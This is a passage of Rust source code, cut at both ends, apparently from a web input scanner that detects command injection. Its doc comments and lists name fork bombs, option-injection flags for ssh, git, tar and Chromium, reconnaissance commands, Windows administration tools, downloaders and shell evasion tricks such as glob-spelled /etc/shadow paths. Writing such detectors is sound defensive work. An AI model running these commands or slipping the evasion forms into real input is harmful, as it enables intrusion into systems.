            if b.get(j) != Some(&b',') || args.len() == 8 {
                break;
            }
            j = skip_space(b, j + 1);
        }
        let mut out = Vec::new();
        let mut k = 0;
        while k < first.len() {
            let slot = first[k..].strip_prefix(b"{").and_then(|r| {
                let d = r.first().filter(|c| c.is_ascii_digit())?;
                (r.get(1) == Some(&b'}')).then(|| usize::from(d - b'0'))
            });
            match slot {
                Some(n) => {
                    out.extend_from_slice(args.get(n)?);
                    k += 3;
                }
                None => {
                    out.push(first[k]);
                    k += 1;
                }
            }
        }
        return (out.len() <= 32).then_some((out, end, args.len() + 1));
    }
    let mut pieces = 1;
    for _ in 0..8 {
        let j = skip_space(b, end);
        if !matches!(b.get(j), Some(b'+' | b'.')) {
            break;
        }
        let Some((next, e)) = literal(skip_space(b, j + 1)) else {
            break;
        };
        value.extend_from_slice(next);
        end = e;
        pieces += 1;
    }
    (value.len() <= 32).then_some((value, end, pieces))
}

/// A shell function that calls itself through a pipe, in the background or into itself, then
/// is called: a fork bomb (`:(){ :|:& };:`, `f(){ f|f& };f`, `f(){ f | f; }; f`).
fn fork_bomb(b: &[u8]) -> Option<Hit> {
    for p in memchr::memchr_iter(b'(', b) {
        if b.get(p + 1) != Some(&b')') {
            continue;
        }
        let open = skip_space(b, p + 2);
        if b.get(open) != Some(&b'{') {
            continue;
        }
        let from = p.saturating_sub(32);
        let start = b[from..p]
            .iter()
            .rposition(|c| !(is_word(*c) || *c == b':'))
            .map_or(from, |x| from + x + 1);
        let name = &b[start..p];
        let Some(close) = memchr::memchr(b'}', &b[open..b.len().min(open + 64)]) else {
            continue;
        };
        let body = &b[open + 1..open + close];
        // `name | …` in the background, or `name | name`: each call starts two.
        let piped = !name.is_empty()
            && find_iter(body, name).any(|q| {
                let mut k = q + name.len();
                if body[k..].starts_with(b"()") {
                    k += 2;
                }
                let bar = skip_space(body, k);
                body.get(bar) == Some(&b'|')
                    && (body.contains(&b'&') || body[skip_space(body, bar + 1)..].starts_with(name))
            });
        if piped {
            return Some(Hit::new("cmdi.command_chain", start, open + close + 1));
        }
    }
    None
}

/// Options that make a program run a command the caller chose (CWE-88): a value the function
/// passes as an argument (a host to `ssh`, a repository to `git`, a file name under `tar *`, a
/// flag to headless Chromium) that starts with a dash is read as an option. No other use.
pub(crate) const EXEC_OPTIONS: &[&str] = &[
    // ssh -o
    "proxycommand",
    "localcommand",
    // git clone/fetch/push; `-c core.sshCommand=`
    "upload-pack",
    "receive-pack",
    "core.sshcommand",
    "core.gitproxy",
    "core.pager",
    "core.fsmonitor",
    // tar
    "checkpoint-action",
    "to-command",
    "use-compress-program",
    "rsh-command",
    "info-script",
    "new-volume-script",
    // rsync, wget, zip
    "rsync-path",
    "post-file",
    "use-askpass",
    "unzip-command",
    // Chromium
    "renderer-cmd-prefix",
    "gpu-launcher",
    "utility-cmd-prefix",
    "browser-subprocess-path",
];

/// Options with common names that run a command (`find -exec`, `rsync -e`/`--rsh`, `node
/// --eval`): only when the value itself starts with one.
/// `(gate needle, name)`.
pub(crate) const EXEC_OPTIONS_FIRST: &[(&str, &[u8])] = &[
    ("-exec", b"exec"),
    ("-exec", b"execdir"),
    ("--rsh", b"rsh"),
    ("--eval", b"eval"),
];

/// A command-running option in a value: one of [`EXEC_OPTIONS`] as an option (after `-`,
/// `--`, ssh's `-o`, git's `core.` key) given a value, or one of [`EXEC_OPTIONS_FIRST`]
/// opening the value.
fn argument_injection(b: &[u8]) -> Option<Hit> {
    let given = |end: usize| match b.get(end) {
        Some(b'=') => true,
        Some(b' ' | b'\t') => b.get(skip_space(b, end)).is_some_and(|c| *c != b'-'),
        _ => false,
    };
    let boundary = |i: usize| i == 0 || !is_word(b[i - 1]) && b[i - 1] != b'-';
    // Where the option's dashes start, when the name at `p` follows one or two of them.
    let opened = |p: usize| {
        let dashes = b[..p]
            .iter()
            .rev()
            .take(2)
            .take_while(|c| **c == b'-')
            .count();
        (dashes > 0 && boundary(p - dashes)).then_some(p - dashes)
    };
    for name in EXEC_OPTIONS {
        let name = name.as_bytes();
        for p in find_iter(b, name) {
            let end = p + name.len();
            if !given(end) {
                continue;
            }
            let git_key = name.starts_with(b"core.");
            // `--name`, `-name`, `-oName`, `-o Name`.
            let start = if git_key {
                Some(p)
            } else {
                opened(p).or_else(|| {
                    let o = b[..p].trim_ascii_end();
                    o.strip_suffix(b"-o").and_then(|_| opened(o.len() - 1))
                })
            };
            if let Some(start) = start {
                return Some(Hit::new("cmdi.argument_injection", start, end));
            }
        }
    }
    let v = skip_space(b, 0);
    let dashes = b[v..].iter().take(2).take_while(|c| **c == b'-').count();
    let name = v + dashes;
    // Given a command: `--exec=…`, or a command word or path after a space.
    let command = |end: usize| match b.get(end) {
        Some(b'=') => end + 1 < b.len(),
        Some(b' ' | b'\t') => {
            let w = skip_space(b, end);
            let word_end = w + b[w..]
                .iter()
                .take_while(|c| !c.is_ascii_whitespace())
                .count();
            b.get(w) == Some(&b'/') || command_class(&b[w..word_end]).is_some()
        }
        _ => false,
    };
    EXEC_OPTIONS_FIRST.iter().find_map(|(_, o)| {
        let end = name + o.len();
        (dashes > 0 && b[name..].starts_with(o) && command(end))
            .then(|| Hit::new("cmdi.argument_injection", v, end))
    })
}

/// The arguments of a blind timing probe sent as a whole value: `sleep 5`, `ping -c 10
/// 127.0.0.1`, `ping -n 30 127.0.0.1` (the response is late by the count). `sleep well` and
/// `ping me at 5` are words; a count with no address is a phrase too (`ping -n 3`).
fn delay_probe<'a>(first: &[u8], mut words: impl Iterator<Item = &'a [u8]>) -> bool {
    let number = |w: &[u8]| !w.is_empty() && w.len() <= 4 && w.iter().all(u8::is_ascii_digit);
    if first == b"sleep" {
        return words.next().is_some_and(number) && words.next().is_none();
    }
    let address = |w: &[u8]| {
        w.iter().filter(|c| **c == b'.').count() == 3
            && w.iter().all(|c| c.is_ascii_digit() || *c == b'.')
    };
    let mut counted = false;
    while let Some(w) = words.next() {
        // (The value is lower-cased: Windows' `-w` timeout and Linux's `-W` read alike.)
        if matches!(w, b"-c" | b"-n" | b"-i" | b"-w" | b"-t" | b"-l") {
            counted |= words.next().is_some_and(number);
        } else if address(w) || w == b"localhost" {
            return counted && words.next().is_none();
        } else {
            return false;
        }
    }
    false
}

/// Reconnaissance commands that are a whole value on their own: no form field holds the word.
const RECON: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "printenv",
];

/// A value that is one [`RECON`] command (`whoami`, `ipconfig /all`), or `net` asked for users
/// or groups (`net user`, `net localgroup administrators`).
fn recon(b: &[u8]) -> Option<Hit> {
    let v = b.trim_ascii();
    let start = b.len() - b.trim_ascii_start().len();
    let mut words = v.split(|c| *c == b' ').filter(|w| !w.is_empty());
    let first = words.next()?;
    let first = first.strip_suffix(b".exe").unwrap_or(first);
    let rest_args = words
        .clone()
        .all(|w| w.starts_with(b"/") || w.starts_with(b"-"));
    let hit = if RECON.iter().any(|r| r.as_bytes() == first) {
        rest_args
    } else if matches!(first, b"ping" | b"ping6" | b"sleep") {
        delay_probe(first, words)
    } else {
        first == b"net"
            && words.next().is_some_and(|w| {
                matches!(
                    w,
                    b"user" | b"localgroup" | b"group" | b"accounts" | b"share"
                )
            })
    };
    hit.then(|| Hit::new("cmdi.command_chain", start, start + v.len().min(64)))
}

/// A here-string feeding a command (`tr a-z A-Z<<<"WHOAMI"`, `bash<<<$(base64 -d<<<aWQ=)`):
/// `<<<` then a quote or `$` is bash's alone (Haskell's `f <<< g` composes names).
fn here_string(b: &[u8]) -> Option<Hit> {
    find_iter(b, b"<<<").find_map(|p| {
        let single = (p == 0 || b[p - 1] != b'<') && b.get(p + 3) != Some(&b'<');
        let next = b.get(skip_space(b, p + 3)).copied();
        let fed = matches!(next, Some(b'"' | b'\'' | b'$'));
        let command = b[..p]
            .trim_ascii_end()
            .last()
            .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, b'"' | b'\'' | b')' | b'}'));
        (single && fed && command).then(|| Hit::new("cmdi.shell_evasion", p, p + 4))
    })
}

/// A server-side include directive (`<!--#exec cmd="id"-->`, `<!--#include virtual=…`): a
/// web server that parses the stored text runs or reads what it names.
fn server_side_include(b: &[u8]) -> Option<Hit> {
    const DIRECTIVES: &[&[u8]] = &[
        b"exec",
        b"include",
        b"echo",
        b"printenv",
        b"config",
        b"set",
        b"fsize",
        b"flastmod",
    ];
    for p in find_iter(b, b"<!--#") {
        let at = skip_space(b, p + 5);
        let word = &b[at..at
            + b[at..]
                .iter()
                .take_while(|c| c.is_ascii_alphabetic())
                .count()];
        let follows = b
            .get(at + word.len())
            .is_none_or(|c| c.is_ascii_whitespace());
        if follows && DIRECTIVES.contains(&word) {
            return Some(Hit::new("cmdi.ssi", p, at + word.len()));
        }
    }
    None
}

/// A value opening with a command word split by what only a shell removes (`'wh'oami`,
/// `c\url x`, `ping$() 127.0.0.1`).
fn split_command(b: &[u8]) -> Option<Hit> {
    let w = read_word(b, 0);
    let word = &w.text[..w.len];
    // A relative path (`docs/"time"`) names a file, not a command.
    let relative = word.first() != Some(&b'/') && word.contains(&b'/');
    // An absolute one runs a program from a binary folder (`/b'i'n/cat`, `/usr/bin$u/id`);
    // `/$ref/type`, a JSON pointer, reads as `//type`, no program.
    let outside_bin = word.first() == Some(&b'/') && {
        let dir = &word[..word.iter().rposition(|c| *c == b'/').unwrap_or(0)];
        let last = dir.rsplit(|c| *c == b'/').find(|s| !s.is_empty());
        !last.is_some_and(|s| s.ends_with(b"bin"))
    };
    let class = if w.split && !relative && !outside_bin {
        command_class(word)
    } else {
        None
    };
    // A word command also needs an argument (`'ca't /etc/x`, not `'ti''me' flies`).
    (class == Some(true) || (class.is_some() && argument_follows(b, w.end, false)))
        .then(|| Hit::new("cmdi.shell_evasion", 0, w.end))
}

/// PowerShell's flags that run their argument.
const POWERSHELL_RUNS: &[&[u8]] = &[
    b"-c",
    b"-command",
    b"-enc",
    b"-e",
    b"-encodedcommand",
    b"-nop",
];

/// Shell and script interpreters with the flag that makes them run their next argument.
const RUNS_ARGUMENT: &[(&[u8], &[&[u8]])] = &[
    (b"sh", &[b"-c", b"-i"]),
    (b"bash", &[b"-c", b"-i"]),
    (b"zsh", &[b"-c", b"-i"]),
    (b"dash", &[b"-c", b"-i"]),
    (b"ksh", &[b"-c", b"-i"]),
    (b"busybox", &[b"sh", b"nc", b"wget"]),
    (b"cmd", &[b"/c", b"/k", b"/r"]),
    (b"cmd.exe", &[b"/c", b"/k", b"/r"]),
    (b"powershell", POWERSHELL_RUNS),
    (b"pwsh", POWERSHELL_RUNS),
    (b"python", &[b"-c"]),
    (b"python3", &[b"-c"]),
    (b"perl", &[b"-e"]),
    (b"ruby", &[b"-e"]),
    (b"php", &[b"-r"]),
    (b"node", &[b"-e"]),
];

/// Words that run the command after them (`time sh`, `nohup curl …`).
const WRAPPERS: &[&[u8]] = &[
    b"time", b"nohup", b"timeout", b"env", b"sudo", b"xargs", b"exec", b"eval", b"nice",
    b"command", b"builtin", b"doas", b"strace", b"watch",
];

/// A value that is an interpreter told to run a string (`sh -c id`, `powershell -enc …`), or a
/// wrapper followed by a command with no ordinary-language meaning (`time whoami`), or a
/// PowerShell cmdlet with an argument: command lines without any separator.
fn interpreter(b: &[u8]) -> Option<Hit> {
    let mut words = b
        .split(|c| c.is_ascii_whitespace())
        .filter(|w| !w.is_empty())
        .map(|w| w.strip_prefix(b"'").unwrap_or(w));
    let first = program(words.next()?);
    let second = words.next()?;
    let (cmd, arg) = if WRAPPERS.contains(&first) {
        let second = program(second);
        let third = words.next();
        if command_class(second) == Some(true) && third.is_none_or(|t| !t.is_empty()) {
            // `time sh -c x` runs `sh`; `time whoami` runs `whoami`.
            if third.is_none() || !RUNS_ARGUMENT.iter().any(|(c, _)| *c == second) {
                return Some(Hit::new("cmdi.command_chain", 0, b.len().min(64)));
            }
        }
        (second, third.unwrap_or_default())
    } else {
        (first, second)
    };
    let runs = RUNS_ARGUMENT
        .iter()
        .any(|(c, flags)| *c == cmd && flags.contains(&arg));
    // `Stop-Service spooler`, `Get-Content C:\x`: not `New-Object is a cmdlet I forget`.
    let short = b
        .split(u8::is_ascii_whitespace)
        .filter(|w| !w.is_empty())
        .count()
        <= 3;
    let prose = cmdlet(cmd) && !short && arg.iter().all(u8::is_ascii_alphabetic);
    let cmdlet = cmd.contains(&b'-') && !prose && command_class(cmd) == Some(true);
    (runs || cmdlet).then(|| Hit::new("cmdi.command_chain", 0, b.len().min(64)))
}

/// Windows `cmd` control flow: `FOR [/D|/R|/L|/F ["opts"]] %%v IN (set) DO command` and
/// `IF [/I] [NOT] EXIST|DEFINED|ERRORLEVEL|CMDEXTVERSION x command`, `IF a==b command`,
/// `IF a EQU|NEQ|LSS|LEQ|GTR|GEQ b command`, at the start or after `&`, `|`, a newline.
fn batch(b: &[u8]) -> Option<Hit> {
    let mut i = 0;
    while i < b.len() {
        let at = skip_space(b, i);
        let word_end = at
            + b[at..]
                .iter()
                .take_while(|c| c.is_ascii_alphabetic())
                .count();
        // One statement is read within a bounded window: linear however many there are.
        let w = &b[..b.len().min(at + 256)];
        let end = match &b[at..word_end] {
            b"for" => batch_for(w, word_end),
            b"if" => batch_if(w, word_end),
            _ => None,
        };
        if let Some(e) = end {
            return Some(Hit::new("cmdi.batch", at, e));
        }
        // Next statement start.
        i = at + memchr::memchr3(b'&', b'|', b'\n', &b[at..])? + 1;
    }
    None
}

/// The next whitespace-separated token from `i` (spaces inside `"…"` or a leading `(…)` do
/// not split it).
fn batch_token(b: &[u8], i: usize) -> (usize, usize) {
    let s = skip_space(b, i);
    if b.get(s) == Some(&b'(') {
        let mut depth = 0usize;
        let close = b[s..].iter().position(|c| {
            match c {
                b'(' => depth += 1,
                b')' => depth -= 1,
                _ => {}
            }
            depth == 0
        });
        if let Some(e) = close {
            return (s, s + e + 1);
        }
    }
    let mut e = s;
    while e < b.len() && !b[e].is_ascii_whitespace() {
        if b[e] == b'"' {
            match memchr::memchr(b'"', &b[e + 1..]) {
                Some(q) => e += q + 1,
                None => return (s, b.len()),
            }
        }
        e += 1;
    }
    (s, e)
}

fn batch_for(b: &[u8], mut i: usize) -> Option<usize> {
    // Up to four switches and their options before the `%` loop variable.
    for _ in 0..5 {
        let (s, e) = batch_token(b, i);
        if s == e {
            return None;
        }
        i = e;
        if b[s] == b'%' {
            let (s, e) = batch_token(b, i);
            if &b[s..e] != b"in" {
                return None;
            }
            let (s, e) = batch_token(b, e);
            if b.get(s) != Some(&b'(') {
                return None;
            }
            let d = skip_space(b, e);
            return b[d..].starts_with(b"do").then_some(d + 2);
        }
        if !matches!(b[s], b'/' | b'"' | b'\\') && !b[s..e].contains(&b':') {
            return None;
        }
    }
    None
}

fn batch_if(b: &[u8], i: usize) -> Option<usize> {
    let (mut s, mut e) = batch_token(b, i);
    for skip in [&b"/i"[..], b"not"] {
        if &b[s..e] == skip {
            (s, e) = batch_token(b, e);
        }
    }
    if s == e {
        return None;
    }
    let word = &b[s..e];
    let compares = |w: &[u8]| {
        w.split(|c| c.is_ascii_whitespace()).any(|t| {
            matches!(
                t,
                b"==" | b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq"
            )
        })
    };
    let joined = find(word, b"==").is_some_and(|p| p > 0 && p + 2 < word.len());
    let rest = match word {
        b"exist" | b"defined" | b"errorlevel" | b"cmdextversion" => batch_token(b, e).1,
        // `IF (2 GEQ 15) echo`: the condition in parentheses.
        _ if word[0] == b'(' && compares(word) => e,
        _ if joined => e,
        _ => {
            let (os, oe) = batch_token(b, e);
            let op = &b[os..oe];
            let cmp = matches!(
                op,
                b"==" | b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq"
            );
            if !cmp {
                return None;
            }
            batch_token(b, oe).1
        }
    };
    // Then a command (or a block): one with a batch variable, or a known command word.
    let (cs, ce) = batch_token(b, rest);
    let variable = b[s..rest].contains(&b'%');
    if variable && cs == ce {
        // `if not {%1} == {}`: a complete condition on a batch variable ends the value.
        return Some(rest);
    }
    let exist = matches!(
        word,
        b"exist" | b"defined" | b"errorlevel" | b"cmdextversion"
    );
    if cs == ce {
        return None;
    }
    // `if a==b foo`: `==` with nothing around it is batch, not pseudo-code (`if a==b then`).
    let code_word = matches!(
        &b[cs..ce],
        b"then" | b"and" | b"or" | b"return" | b"{" | b"?"
    );
    let command = b[cs] == b'('
        || b[cs] == b'@'
        || command_class(&b[cs..ce]).is_some()
        || matches!(&b[cs..ce], b"goto" | b"md" | b"else")
        || (joined && !code_word && b[cs].is_ascii_alphanumeric());
    (command || ((variable || exist) && ce > cs)).then_some(ce)
}

/// A value that is a command line with no separator: a command word with no ordinary-language
/// meaning (`c99`, `nmap`, `kubectl`) followed by an option (`-wrapper`, `--version`),
/// directly or after a subcommand (`kubectl get -A`); or an `alias name=value` definition.
fn command_line(b: &[u8]) -> Option<Hit> {
    let start = skip_space(b, 0);
    let mut words = b[start..b.len().min(start + 128)]
        .split(|c| *c == b' ')
        .filter(|w| !w.is_empty());
    let first = words.next()?;
    let first = first
        .strip_prefix(b"'")
        .and_then(|w| w.strip_suffix(b"'"))
        .unwrap_or(first);
    let end = (start + first.len() + 2).min(b.len());
    let second = words.next()?;
    if first == b"alias" {
        // `alias ll='ls -l'`, `alias -g x=y`: a name, `=`, a value.
        let defines = |w: &[u8]| {
            w.iter()
                .position(|c| *c == b'=')
                .is_some_and(|e| e > 0 && e + 1 < w.len())
        };
        let third = words.next();
        let def = defines(second)
            || (second
                .iter()
                .all(|c| matches!(c, b'-' | b'+') || c.is_ascii_alphabetic())
                && !second.iter().all(u8::is_ascii_alphabetic)
                && third.is_some_and(defines));
        return def.then(|| Hit::new("cmdi.command_chain", start, end));
    }
    let option = |w: &[u8]| -> bool {
        let body = w.strip_prefix(b"--").or_else(|| w.strip_prefix(b"-"));
        body.is_some_and(|r| {
            r.first().is_some_and(u8::is_ascii_alphabetic)
                && r.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'-')
        })
    };
    // A Windows program's switch (`schtasks /create`, `ipconfig /all`); after any other
    // command, `/dev` is a path (`lsof scans the /dev branch`).
    let program = first.strip_suffix(b".exe").unwrap_or(first);
    let windows = WINDOWS.contains(&program) || ADMINISTRATION.contains(&program);
    let switch = |w: &[u8]| windows && windows_switch(w);
    let subcommand = |w: &[u8]| w.iter().all(u8::is_ascii_lowercase);
    let rest = words.clone();
    // Only a command with no ordinary-language meaning (looked up last, the option is
    // cheaper to rule out): a value opening with `sort -by` or `make -j` may be a phrase.
    // `iwr http://…`, `socat tcp:10.0.0.1:4444 exec:sh`: a transfer tool given an address.
    let fetch = DOWNLOADERS.contains(&first) && {
        let scheme = second
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'-');
        let n = scheme.count();
        n >= 3 && second.get(n) == Some(&b':') && second.len() > n + 1
    };
    // An option directly, or after one or two subcommands (`kubectl get pods -A`,
    // `vssadmin delete shadows /all`).
    let optioned = option(second)
        || switch(second)
        || subcommand(second)
            && words
                .clone()
                .take(2)
                .find(|w| !subcommand(w))
                .is_some_and(|w| option(w) || switch(w));
    let hit = fetch
        || optioned && command_class(first) == Some(true)
        || administration(first, second, rest.clone(), b.len() - start);
    // A word command is a command line when the whole value is one: a short flag cluster
    // (`ls -la`, `ping -c 3 10.0.0.1`) or a drive (`dir c:\`), then only arguments.
    let whole = b.len() <= start + 128 && {
        let flags = second.len() <= 5
            && second.first() == Some(&b'-')
            && second.len() > 1
            && second[1..].iter().all(u8::is_ascii_alphabetic);
        let drive = second.len() >= 2 && second[0].is_ascii_alphabetic() && second[1] == b':';
        // Only a command too short to be a word (`ls -la`, `rm -rf /`): `Find -it`, `Cut -off`
        // and `tail -n 5 …` may be phrases or documentation.
        let argued = first.len() <= 2 || drive;
        (flags || drive)
            && argued
            && rest.clone().all(is_argument)
            && command_class(first).is_some()
    };
    (hit || whole).then(|| Hit::new("cmdi.command_chain", start, end))
}

/// A Windows command-line switch: `/all`, `/create`, `/v`, `/d:0` (a path has a second `/`).
fn windows_switch(w: &[u8]) -> bool {
    w.strip_prefix(b"/").is_some_and(|r| {
        let name = r.split(|c| *c == b':').next().unwrap_or(r);
        (1..=16).contains(&name.len())
            && name.iter().all(u8::is_ascii_alphabetic)
            && !r.contains(&b'/')
    })
}

/// Windows administration tools whose every use changes or reads the system: a value that
/// is one of them and its subcommands is a command line, options or not (`netsh advfirewall
/// set allprofiles state off`, `wmic process call create calc.exe`).
const ADMINISTRATION: &[&[u8]] = &[
    b"netsh",
    b"wmic",
    b"vssadmin",
    b"schtasks",
    b"bitsadmin",
    b"bcdedit",
    b"wevtutil",
    b"takeown",
    b"cmdkey",
];

/// Windows programs besides [`ADMINISTRATION`]'s, whose options are switches (`/all`); `net`,
/// `sc` and `reg` are words too, and take a switch only as [`administration`] reads them.
const WINDOWS: &[&[u8]] = &[
    b"ipconfig",
    b"systeminfo",
    b"tasklist",
    b"taskkill",
    b"cmd",
    b"certutil",
    b"certreq",
    b"rundll32",
    b"regsvr32",
    b"mshta",
    b"cscript",
    b"wscript",
    b"icacls",
    b"cacls",
    b"nltest",
    b"tracert",
    b"nbtstat",
    b"findstr",
    b"forfiles",
    b"msiexec",
    b"qwinsta",
    b"quser",
    b"getmac",
    b"driverquery",
    b"runas",
    b"psexec",
    b"esentutl",
    b"makecab",
    b"installutil",
    b"msbuild",
    b"cmstp",
    b"odbcconf",
    b"regedit",
    b"bcdboot",
];

/// Registry roots `reg` is given (`reg add HKLM\…`, `reg query "HKEY_CURRENT_USER\…"`).
const HIVES: &[&[u8]] = &[
    b"hklm",
    b"hkcu",
    b"hkcr",
    b"hku",
    b"hkcc",
    b"hkey_local_machine",
    b"hkey_current_user",
    b"hkey_classes_root",
    b"hkey_users",
    b"hkey_current_config",
];

/// A whole value that is an [`ADMINISTRATION`] tool given a subcommand and at most six more
/// words, `net` given an account subcommand and a switch, or `reg` given a subcommand and a
/// registry root.
fn administration<'a>(
    first: &[u8],
    second: &[u8],
    mut rest: impl Iterator<Item = &'a [u8]> + Clone,
    len: usize,
) -> bool {
    let first = first.strip_suffix(b".exe").unwrap_or(first);
    let verb = second.len() >= 2 && second.iter().all(u8::is_ascii_lowercase);
    if !verb || len > 128 {
        return false;
    }
    // `net user x P@ss /add`, `net localgroup administrators x /add`: accounts, with a switch.
    if first == b"net" || first == b"net1" {
        return matches!(
            second,
            b"user" | b"localgroup" | b"group" | b"accounts" | b"share"
        ) && rest.clone().any(windows_switch)
            && rest.count() <= 6;
    }
    if first == b"reg" {
        return rest.next().is_some_and(|w| {
            let w = w.strip_prefix(b"\"").unwrap_or(w);
            let root = w.split(|c| *c == b'\\').next().unwrap_or(w);
            HIVES.contains(&root) && w.len() > root.len() + 1
        });
    }
    ADMINISTRATION.contains(&first) && rest.clone().next().is_some() && rest.count() <= 6
}

/// Transfer tools whose first argument is an address (`curl http://…`, `socat tcp:…`).
const DOWNLOADERS: &[&[u8]] = &[
    b"curl",
    b"wget",
    b"iwr",
    b"irm",
    b"socat",
    b"ncat",
    b"invoke-webrequest",
    b"invoke-restmethod",
];

/// A word that can only be a command's argument: a path, an option, a number or address, a
/// file name, a variable.
fn is_argument(w: &[u8]) -> bool {
    let Some(&c) = w.first() else {
        return true;
    };
    matches!(c, b'/' | b'~' | b'.' | b'-' | b'$' | b'\\' | b'0'..=b'9')
        || (c.is_ascii_alphabetic() && w.get(1) == Some(&b':'))
        || w.windows(2)
            .any(|p| p[0] == b'.' && p[1].is_ascii_alphanumeric())
        || w.contains(&b'/')
}

/// Shell expansions no other syntax writes: arithmetic `$((…))`, pattern removal from a
/// parameter (`${PATH#*/}`, `${x%%.*}`), a substring of one (`${PATH:0:1}` spells `/`), case
/// changed (`${x^^}`) and ANSI-C quoted escapes (`$'\x69'`). `${PORT:-80}`, a default, is
/// configuration syntax too and is left alone.
fn expansion(b: &[u8]) -> Option<Hit> {
    for p in memchr::memchr_iter(b'$', b) {
        let rest = &b[p + 1..b.len().min(p + 64)];
        // ANSI-C quoting spells a word in escapes (`$'\x69\x64'`, `$'\151'`).
        if rest.starts_with(b"'\\")
            && rest
                .get(2)
                .is_some_and(|c| matches!(c, b'x' | b'u' | b'0'..=b'7'))
        {
            return Some(Hit::new("cmdi.shell_evasion", p, p + 4));
        }
        if rest.starts_with(b"((") && find(rest, b"))").is_some() {
            return Some(Hit::new("cmdi.substitution", p, p + 3));
        }
        if let Some(r) = rest.strip_prefix(b"{") {
            let name = r
                .iter()
                .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                .count();
            let operator = match r.get(name) {
                Some(b'#' | b'%' | b'^') => true,
                Some(b',') => r.get(name + 1) == Some(&b','),
                Some(b':') => r.get(name + 1).is_some_and(u8::is_ascii_digit),
                _ => false,
            };
            if name > 0 && operator && r[name..].contains(&b'}') {
                return Some(Hit::new("cmdi.shell_evasion", p, p + 2 + name + 1));
            }
        }
    }
    None
}

/// Absolute paths spelled with shell globs (`/???/c?t`, `/etc/[p]asswd`, `/bi[n]/bash`) that
/// resolve to a shell or a credentials file: only a shell expands them.
fn glob_paths(b: &[u8]) -> Option<Hit> {
    const TARGETS: &[&[&[u8]]] = &[
        &[b"etc", b"passwd"],
        &[b"etc", b"shadow"],
        &[b"etc", b"group"],
        &[b"etc", b"hosts"],
        &[b"etc", b"sudoers"],
        &[b"bin", b"*"],
        &[b"sbin", b"*"],
        &[b"usr", b"bin", b"*"],
        &[b"usr", b"sbin", b"*"],
        &[b"usr", b"local", b"bin", b"*"],
        &[b"proc", b"self", b"*"],
        &[b"dev", b"tcp", b"*"],
    ];
    let mut i = 0;
    while let Some(p) = memchr::memchr(b'/', &b[i..]).map(|p| i + p) {
        let starts = p == 0 || !is_glob_path_byte(b[p - 1]);
        // Quotes inside the path (`/e't'*/pa'?s'wd`) are removed by the shell before globbing.
        let end = p + b[p..]
            .iter()
            .take_while(|c| is_glob_path_byte(**c) || matches!(c, b'\'' | b'"'))
            .count();
        i = end.max(p + 1);
        let run = &b[p..end];
        if !starts || run.len() > 64 || !run.iter().any(|c| matches!(c, b'?' | b'*' | b'[')) {
            continue;
        }
        // A bracket expression matches one character, even one spelled with slashes.
        let mut pat = [0u8; 64];
        let mut n = 0;
        let mut k = 1; // past the leading `/`
        while k < run.len() {
            if matches!(run[k], b'\'' | b'"') {
                k += 1;
                continue;
            }
            if run[k] == b'[' {
                if let Some(c) = memchr::memchr(b']', &run[k + 1..]) {
                    pat[n] = b'?';
                    n += 1;
                    k += c + 2;
                    continue;
                }
            }
            pat[n] = run[k];
            n += 1;
            k += 1;
        }
        let segs = || pat[..n].split(|c| *c == b'/').filter(|s| !s.is_empty());
        let count = segs().count();
        let hit = TARGETS.iter().any(|t| {
            t.len() == count && t.iter().zip(segs()).all(|(t, s)| *t == b"*" || glob(s, t))
        });
        if hit {
            return Some(Hit::new("cmdi.shell_evasion", p, end));
        }
    }
    None
}

fn is_glob_path_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric()
        || matches!(
            c,
            b'/' | b'?' | b'*' | b'[' | b']' | b'!' | b'-' | b'_' | b'.'
        )
}

/// Whether glob `pat` (`?`, `*`) matches `text`; both are short (≤ 64 bytes).
fn glob(pat: &[u8], text: &[u8]) -> bool {
    // Classic two-pointer matcher with one backtrack point: linear in practice, and bounded
    // by 64 × 64 on these short segments.
    let (mut p, mut t) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while t < text.len() {
        if p < pat.len() && (pat[p] == b'?' || pat[p] == text[t]) {
            p += 1;
            t += 1;
        } else if p < pat.len() && pat[p] == b'*' {
            star = Some((p, t));
            p += 1;
        } else if let Some((sp, st)) = star {
            p = sp + 1;
            t = st + 1;
            star = Some((sp, st + 1));
        } else {
            return false;
        }
    }
    while p < pat.len() && pat[p] == b'*' {
        p += 1;
    }
    p == pat.len()
}

/// HTML entity names that are also commands (Windows `copy`, the shell's `times`), with the
/// `;` that ends the entity.
const COMMAND_ENTITIES: &[&[u8]] = &[b"copy;", b"times;"];

/// References that escape markup (`&lt;em&gt;test&lt;/em&gt;`): in a value that holds an
/// escaped tag, the `;` closing one is no separator (`test` and `time` are commands). The text
/// they stand for is inspected decoded as well.
const MARKUP_REFERENCES: &[&[u8]] = &[b"&lt;", b"&gt;", b"&amp;", b"&quot;", b"&apos;", b"&nbsp;"];

/// Whether `b` holds a tag escaped with references: `&lt;p&gt;`, `&lt;/em&gt;`,
/// `&lt;a href=…&gt;`.
fn escaped_markup(b: &[u8]) -> bool {
    // Bounded: each reference may look 256 bytes ahead.
    find_iter(b, b"&lt;").take(64).any(|p| {
        let n = p + 4 + usize::from(b.get(p + 4) == Some(&b'/'));
        let name = b[n..]
            .iter()
            .take(16)
            .take_while(|c| c.is_ascii_alphanumeric())
            .count();
        let rest = &b[n + name..];
        name > 0
            && b[n].is_ascii_alphabetic()
            && (rest.starts_with(b"&gt;")
                || rest.first() == Some(&b' ')
                    && find(&rest[..rest.len().min(256)], b"&gt;").is_some())
    })
}

/// `text` is the value with its case (`b` lowercased), for what only case tells.
fn chains(b: &[u8], text: &[u8], paranoia: u8) -> Option<Hit> {
    let mut i = 0;
    let mut multiline = None;
    let mut words = None;
    let check_start = paranoia >= 2;
    if check_start {
        if let Some(h) = command_at(b, 0, 0, false, true) {
            return Some(h);
        }
    }
    // The end of the line last read for a table row, and whether it was one.
    let mut table = (0, false);
    // The single backtick that opened the last substitution: the shell pairs them left to
    // right, so the next one closes it and opens none (`` the `kern.arandom` sysctl ``) —
    // unless a quote or backslash between could have hidden the first from the shell.
    let mut opened: Option<usize> = None;
    // Whether the value holds escaped markup: asked at the first `;` closing a reference.
    let mut markup: Option<bool> = None;
    while i < b.len() {
